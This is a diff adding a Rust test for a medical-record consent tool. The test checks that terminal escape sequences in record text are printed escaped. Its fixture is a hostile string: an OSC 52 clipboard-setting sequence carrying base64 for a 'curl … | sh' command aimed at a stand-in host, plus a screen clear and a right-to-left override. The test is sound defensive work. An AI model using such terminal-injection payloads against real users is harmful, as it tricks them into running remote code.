@@ -554,3 +554,44 @@ fn test_cli_provider_registry_and_policy() {
         );
     });
 }
+
+/// Text that came from the chain or from a record reaches the terminal
+/// escaped: an escape sequence in a consent's purpose (here OSC 52, which
+/// sets the reader's clipboard, and a screen clear) and a right-to-left
+/// override are printed as `\u{…}`, never as the bytes a terminal acts on.
+#[test]
+fn test_cli_record_text_cannot_drive_the_terminal() {
+    run_test("test_cli_record_text_cannot_drive_the_terminal", async {
+        let env = CliEnv::new(1, 1).await;
+        let patient = env.registered("patient", "patient").await;
+        let doctor = env.registered("doctor", "doctor").await;
+        env.store(&patient, 1, &sample_record()).await;
+        let hostile = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}[2J\u{202e}review";
+        env.run(
+            &patient,
+            &[
+                "consent",
+                "grant",
+                "1",
+                "--to",
+                &doctor.wallet(),
+                "--groups",
+                "diagnoses",
+                "--purpose",
+                hostile,
+                "--hours",
+                "1",
+            ],
+        )
+        .await
+        .unwrap();
+        let out = env.run(&patient, &["consent", "list", "1"]).await.unwrap();
+        for c in ['\u{1b}', '\u{7}', '\u{202e}'] {
+            assert!(!out.contains(c), "{c:?} reached the terminal: {out:?}");
+        }
+        assert!(
+            out.contains("\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}\\u{1b}[2J\\u{202e}review"),
+            "{out}"
+        );
+    });
+}
